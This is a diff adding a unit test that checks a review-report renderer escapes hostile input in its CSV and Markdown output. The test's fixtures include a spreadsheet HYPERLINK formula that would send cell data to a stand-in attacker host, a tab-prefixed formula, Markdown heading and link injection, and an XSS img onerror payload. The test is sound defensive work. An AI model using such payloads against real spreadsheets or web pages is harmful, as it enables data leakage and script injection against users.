@@ -54,6 +54,40 @@ describe('review rendering', () => {
     expect(rows).toContain('summary,cases,sla_breaches,4');
     expect(rows).toContain('trial_ending,c03,premium support,2026-12-08');
   });
+
+  it("keeps a customer's or an advocate's text from running as a formula or as Markdown", () => {
+    // Prepare
+    const hostile: Review = {
+      ...review,
+      trialsEndingSoon: [
+        {
+          ...review.trialsEndingSoon[0]!,
+          service: '=HYPERLINK("https://evil.example?"&A1,"Click")',
+        },
+        { ...review.trialsEndingSoon[0]!, service: '\t=1+1' },
+        { ...review.trialsEndingSoon[0]!, service: '-12' },
+      ],
+    };
+    const name =
+      'Acme\r## Pwned [Refund](https://evil.example) <img src=x onerror=alert(1)> `x` | &#x202E;';
+    const breaches = review.breaches.map((breach) => ({ ...breach, customer: name }));
+
+    // Act
+    const csv = renderReviewCsv(hostile);
+    const markdown = renderReviewMarkdown({ ...review, breaches }, { charts: false });
+
+    // Assess
+    expect(csv).toContain(
+      `trial_ending,c03,"'=HYPERLINK(""https://evil.example?""&A1,""Click"")",2026-12-08`,
+    );
+    expect(csv).toContain(`trial_ending,c03,"'\t=1+1",2026-12-08`);
+    expect(csv).toContain('trial_ending,c03,-12,2026-12-08');
+    expect(markdown).not.toContain('\r');
+    expect(markdown).not.toMatch(/^## Pwned/m);
+    expect(markdown).toContain(
+      'Acme ## Pwned \\[Refund\\](https://evil.example) \\<img src=x onerror=alert(1)\\> \\`x\\` \\| \\&#x202E;',
+    );
+  });
 });
 
 describe('formatMinutes and periodLabel', () => {
